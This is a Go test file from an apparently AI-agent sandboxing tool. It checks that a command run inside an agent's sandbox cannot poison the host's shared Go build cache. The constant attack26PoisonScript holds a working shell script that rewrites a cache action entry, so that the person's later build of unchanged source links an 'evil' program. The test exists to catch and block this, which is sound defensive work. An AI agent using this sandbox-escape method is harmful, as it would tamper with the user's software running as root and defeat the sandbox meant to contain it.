package tests

import (
	"fmt"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// attack26PoisonScript, run in the module's directory with GOCACHE set,
// builds the module and a copy of it whose main prints "evil" instead,
// finds the action entry of each main package's compile (the largest entry
// whose output names that main.go; GOCACHE/xx/<action>-a holds "v1 action
// output size time"), and points the honest one at the evil output: the go
// command reuses an entry whose output file has the size it records, and
// checks no hash of it (GODEBUG=gocacheverify=1 aside).
const attack26PoisonScript = `set -e
E="$TMPDIR/evil"; mkdir -p "$E"; cp go.mod "$E/"; sed 's/honest/evil/' main.go > "$E/main.go"
go build -o /dev/null .; (cd "$E" && go build -o /dev/null .)
entry() {
  best=; bsize=-1
  for d in $(grep -rl --include='*-d' "$1/main.go" "$GOCACHE"); do
    for a in $(grep -rl --include='*-a' "$(basename "$d" -d)" "$GOCACHE"); do
      set -- $(cat "$a"); if [ "$4" -gt "$bsize" ]; then best=$a; bsize=$4; fi
    done
  done
  echo "$best"
}
HA=$(entry "$PWD"); EA=$(entry "$E")
set -- $(cat "$EA"); EOUT=$3; ESIZE=$4
set -- $(cat "$HA"); printf 'v1 %s %s %20d %20d\n' "$2" "$EOUT" "$ESIZE" "$5" > "$HA.new"; mv "$HA.new" "$HA"
echo "poisoned $HA"
`

// TestAttack26SharedBuildCachePoisoned: the README's complete example
// profile ("dev", loaded by the tests) granted "~/.cache/go-build" =
// "write", the person's Go build cache, so that the agent's builds are
// fast. The go command trusts that cache: an action entry names the
// output to reuse, checked by size only. A command of such a turn
// compiles the person's package, compiles a copy that does something
// else, and points the first entry at the second output. The person's
// next `go build` of their own, unchanged source, outside the sandbox,
// links the agent's object: the binary the person builds and runs (as
// root, under a root server) is the agent's program. The same holds for
// any build cache a profile makes writable and the host's tools read.
// Here the cache is a directory of the test's, named by an absolute path,
// with GOCACHE set by the profile, so that the machine's own cache is
// left alone; the person's environment and the command's agree on cgo,
// and the turn's empty .git hold makes the go command ask git for VCS
// stamps, hence -buildvcs=false on both sides. The fix: such a cache is
// granted "overlay" (the README's example now does): the command builds
// with the person's cache and writes a copy of its own, which goes with
// it. ("write" stays what it says, the escape the README names.)
// Wanted: what a command writes into a cache the host's
// tools trust does not reach the host's builds (a per-turn copy or
// overlay of the cache, or such a grant refused or named as the
// escape it is). Control: the sandboxed command builds with the cache,
// and the person's build before the command prints "honest".
func TestAttack26SharedBuildCachePoisoned(t *testing.T) {
	t.Parallel()
	if os.Geteuid() != 0 {
		t.Skip("run as root, as the README's server")
	}
	goBin, err := exec.LookPath("go")
	if err != nil {
		t.Fatal("go is needed: " + err.Error())
	}
	cache := t.TempDir()
	root := workspace(t)
	if err := os.WriteFile(filepath.Join(root, "go.mod"), []byte("module m26\n\ngo 1.26\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(root, "main.go"), []byte("package main\n\nimport \"fmt\"\n\nfunc main() { fmt.Println(\"honest\") }\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	os.RemoveAll(filepath.Join(root, "src")) // the workspace helper's package main file, not this module's
	profiles := fmt.Sprintf(`
[permissions.gc26]
extends = ":workspace"
[permissions.gc26.filesystem]
%q = "overlay"
[permissions.gc26.environment.set]
GOCACHE = %q
GOTOOLCHAIN = "local"
GOFLAGS = "-buildvcs=false"
CGO_ENABLED = "0"
[permissions.gc26.approvals]
policy = "full_access"
`, cache, cache)
	file := filepath.Join(t.TempDir(), "profiles.toml")
	if err := os.WriteFile(file, []byte(profiles), 0o644); err != nil {
		t.Fatal(err)
	}
	s := StartServer(t, "", "--profiles", file)
	if st, body := startProfileTurn(s, "g26", root, map[string]any{"profile": "gc26"}); st != http.StatusCreated {
		t.Fatalf("start: %d %s", st, body)
	}

	// The person's build, outside the sandbox, with the same cache.
	outDir := t.TempDir()
	builds := 0
	personBuilds := func() string {
		t.Helper()
		builds++ // a new binary each time: an existing one whose build ID matches is not linked again
		out := filepath.Join(outDir, fmt.Sprintf("m26-%d", builds))
		build := exec.Command(goBin, "build", "-o", out, ".")
		build.Dir = root
		build.Env = append(os.Environ(), "GOCACHE="+cache, "GOTOOLCHAIN=local", "GOFLAGS=-buildvcs=false", "CGO_ENABLED=0")
		if b, err := build.CombinedOutput(); err != nil {
			t.Fatalf("the person's go build: %v\n%s", err, b)
		}
		b, err := exec.Command(out).Output()
		if err != nil {
			t.Fatalf("the person's program: %v", err)
		}
		return strings.TrimSpace(string(b))
	}
	if got := personBuilds(); got != "honest" {
		t.Fatalf("control: the person's build before the command prints %q", got)
	}
	ctl := s.execArgv("g26", "ctl", "go", "build", "-o", "/dev/null", ".")
	if ctl.Result.ExitCode != 0 {
		t.Fatalf("control: the sandboxed go build with the granted cache: %+v", ctl.Result)
	}

	d := s.execArgv("g26", "poison", "sh", "-c", attack26PoisonScript)
	t.Logf("the command: exit %d, %q %q", d.Result.ExitCode, d.Result.Stdout, d.Result.Stderr)
	if got := personBuilds(); got != "honest" {
		t.Fatalf("the person's own go build, outside the sandbox, of unchanged source, after a command of the turn wrote the granted build cache, runs the agent's program: it prints %q", got)
	}
}
